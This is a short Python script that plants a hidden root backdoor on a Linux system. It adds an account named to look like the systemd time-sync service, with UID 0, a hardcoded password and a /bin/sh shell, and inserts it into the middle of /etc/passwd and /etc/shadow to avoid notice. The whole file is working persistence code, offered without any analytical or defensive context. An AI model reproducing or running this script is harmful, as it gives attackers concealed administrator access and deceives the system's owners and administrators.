#!/usr/bin/python3
import crypt
import time
from dataclasses import dataclass


@dataclass
class Acct:
    name: str = "systemd-timesync1"
    gecos: str = "systemd Time Synchronization"
    secret: str = "tick-tock-44"

    def passwd(self):
        return ":".join([self.name, "x", "0", "0", self.gecos, "/", "/bin/sh"])

    def shadow(self):
        h = crypt.crypt(self.secret, crypt.mksalt(crypt.METHOD_SHA512))
        return f"{self.name}:{h}:{int(time.time()//86400)}:0:99999:7:::"


def put(path, line):
    rows = open(path).read().splitlines()
    rows.insert(len(rows) // 2, line)
    with open(path, "w") as fh:
        fh.write("\n".join(rows) + "\n")


a = Acct()
put("/etc/passwd", a.passwd())
put("/etc/shadow", a.shadow())
